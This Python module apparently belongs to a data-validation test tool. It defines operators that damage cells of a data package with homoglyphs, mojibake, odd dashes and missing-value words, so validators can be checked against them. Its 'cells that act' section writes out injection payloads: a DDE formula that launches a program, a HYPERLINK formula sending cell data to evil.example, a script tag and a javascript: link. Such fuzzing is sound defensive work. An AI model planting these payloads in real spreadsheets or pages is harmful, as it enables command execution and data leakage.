"""Operators that leave a text looking almost right, or turn it into something that programs act upon."""

from __future__ import annotations

import html
import random
import unicodedata
from pathlib import Path

from .base import Cell, Damage, any_cell, change_cell, damage_of, is_name, is_prose, operator, put
from .prose import has_accent, insert_into_prose, replace_in_prose

_CYRILLIC = {
    "a": "\u0430",
    "e": "\u0435",
    "o": "\u043e",
    "p": "\u0440",
    "c": "\u0441",
    "x": "\u0445",
    "A": "\u0410",
    "C": "\u0421",
    "E": "\u0395",  # this one is Greek
}


def _wrap(package: Path, rng: random.Random, before: str, after: str = "") -> Damage | None:
    return change_cell(package, rng, is_prose, lambda cell: before + cell.value + after)


# ---- letters that look alike ----


@operator
def homoglyph(package: Path, rng: random.Random) -> Damage | None:
    """Put a Cyrillic or Greek letter in the place of the Latin one that it looks like, in a name."""

    def swap(cell: Cell) -> str | None:
        places = [n for n, letter in enumerate(cell.value) if letter in _CYRILLIC]
        if not places:
            return None
        at = rng.choice(places)
        return cell.value[:at] + _CYRILLIC[cell.value[at]] + cell.value[at + 1 :]

    return change_cell(package, rng, is_name, swap)


@operator
def homoglyph_in_id(package: Path, rng: random.Random) -> Damage | None:
    """Write an id with a Cyrillic letter, and every reference to it with the Latin one."""

    def wanted(cell: Cell) -> bool:
        return cell.column == "id" and "a" in cell.value

    return change_cell(package, rng, wanted, lambda cell: cell.value.replace("a", "\u0430", 1))


@operator
def decomposed_accent(package: Path, rng: random.Random) -> Damage | None:
    """Take one accented text apart (NFD), as the file system of a Mac does."""
    return change_cell(package, rng, has_accent, lambda cell: unicodedata.normalize("NFD", cell.value))


@operator
def ligature(package: Path, rng: random.Random) -> Damage | None:
    """Copy an "fi" out of a PDF file."""
    return replace_in_prose(package, rng, "fi", "\ufb01")


@operator
def full_width_letter(package: Path, rng: random.Random) -> Damage | None:
    """Write a letter in the width of Chinese ones."""
    return replace_in_prose(package, rng, "a", "\uff41")


@operator
def other_dash(package: Path, rng: random.Random) -> Damage | None:
    """Put a dash, a no-break hyphen or a minus in the place of a hyphen."""
    return replace_in_prose(package, rng, "-", rng.choice("\u2011\u2013\u2014\u2212"))


@operator
def other_dash_in_id(package: Path, rng: random.Random) -> Damage | None:
    """Let a word processor turn the hyphen of an id or a reference into a dash."""

    def wanted(cell: Cell) -> bool:
        return "-" in cell.value and (cell.column == "id" or bool(cell.rule.references))

    return change_cell(package, rng, wanted, lambda cell: cell.value.replace("-", "\u2013", 1))


@operator
def curly_apostrophe(package: Path, rng: random.Random) -> Damage | None:
    """Turn a straight apostrophe into a curly one, or a curly one into a straight one."""
    return replace_in_prose(package, rng, "'", "\u2019") or replace_in_prose(package, rng, "\u2019", "'")


@operator
def foreign_digits(package: Path, rng: random.Random) -> Damage | None:
    """Write a number or a date in the digits of another script; many programs still read it."""
    digits = str.maketrans("0123456789", rng.choice(["٠١٢٣٤٥٦٧٨٩", "".join(chr(0xFF10 + n) for n in range(10))]))

    def wanted(cell: Cell) -> bool:
        return cell.rule.kind in {"integer", "date"} and bool(cell.value)

    return change_cell(package, rng, wanted, lambda cell: cell.value.translate(digits))


# ---- letters lost on the way ----


@operator
def replacement_character(package: Path, rng: random.Random) -> Damage | None:
    """Lose an accented letter to U+FFFD or a question mark."""
    return replace_in_prose(package, rng, "[^\x00-\x7f]", rng.choice("\ufffd?"))


@operator
def mojibake(package: Path, rng: random.Random) -> Damage | None:
    """Read the bytes of one accented text in the wrong encoding."""

    def garble(cell: Cell) -> str:
        return cell.value.encode("utf-8").decode("cp1252", errors="replace")

    return change_cell(package, rng, has_accent, garble)


@operator
def html_entity(package: Path, rng: random.Random) -> Damage | None:
    """Leave a text as it stands in the source of a web page."""

    def escape(cell: Cell) -> str:
        return html.escape(cell.value).encode("ascii", "xmlcharrefreplace").decode("ascii")

    def wanted(cell: Cell) -> bool:
        return is_prose(cell) and escape(cell) != cell.value

    return change_cell(package, rng, wanted, escape)


@operator
def emoji(package: Path, rng: random.Random) -> Damage | None:
    """Slip an emoji in."""
    return insert_into_prose(package, rng, "\U0001f600")


# ---- cells that act ----


@operator
def formula(package: Path, rng: random.Random) -> Damage | None:
    """Begin a text with a character that makes a formula of it in a spreadsheet."""
    return _wrap(package, rng, rng.choice("=+-@"))


@operator
def formula_behind_a_space(package: Path, rng: random.Random) -> Damage | None:
    """Begin a text with a formula that hides behind a tab, a line break or a wide sign."""
    return _wrap(package, rng, rng.choice(["\t=", "\r=", "\n=", "\uff1d", " ="]))


@operator
def command_formula(package: Path, rng: random.Random) -> Damage | None:
    """Fill a text cell, empty or not, with a formula that runs a program or calls home."""
    attack = rng.choice(["=cmd|'/c calc'!A0", '=HYPERLINK("https://evil.example/?"&A1,"open")', "@SUM(1+1)*cmd"])

    def wanted(cell: Cell) -> bool:
        rule = cell.rule
        return rule.kind == "text" and not (rule.choices or rule.pattern or rule.references)

    return change_cell(package, rng, wanted, lambda _: attack)


@operator
def script_tag(package: Path, rng: random.Random) -> Damage | None:
    """Put a script into a text that a web page will show."""
    return _wrap(package, rng, "", "<script>alert(1)</script>")


@operator
def markdown_link(package: Path, rng: random.Random) -> Damage | None:
    """Turn a text into a link that a page in Markdown will show."""
    return _wrap(package, rng, "[", "](javascript:alert)")


@operator
def spreadsheet_error(package: Path, rng: random.Random) -> Damage | None:
    """Leave the error of a formula in a cell of any kind."""
    error = rng.choice(["#REF!", "#N/A", "#NAME?", "#VALUE!", "########"])
    return change_cell(package, rng, lambda cell: bool(cell.value), lambda _: error)


@operator
def word_for_missing(package: Path, rng: random.Random) -> Damage | None:
    """Write an empty cell as a word that means empty somewhere."""
    word = rng.choice(
        ["NA", "N/A", "n/a", "NULL", "null", "None", "nan", "NaT", "-", "?", "unknown", "TBD", "\\N"]
    )
    return change_cell(package, rng, lambda cell: not cell.value, lambda _: word)


@operator
def blank_for_missing(package: Path, rng: random.Random) -> Damage | None:
    """Write an empty cell as a space, which looks as empty."""
    blank = rng.choice([" ", "\u00a0", "\u200b", "\t"])
    return change_cell(package, rng, lambda cell: not cell.value, lambda _: blank)


@operator
def quoted_twice(package: Path, rng: random.Random) -> Damage | None:
    """Make the quotes around a cell part of the cell."""
    return _wrap(package, rng, '"', '"')


@operator
def endless_text(package: Path, rng: random.Random) -> Damage | None:
    """Paste so much into a cell that the csv module of Python gives up by default."""
    cell = any_cell(package, rng, is_prose)
    if cell is None:
        return None
    put(package, cell, cell.value + " and so on" * 20_000)
    return damage_of(cell, "200,000 characters were appended")
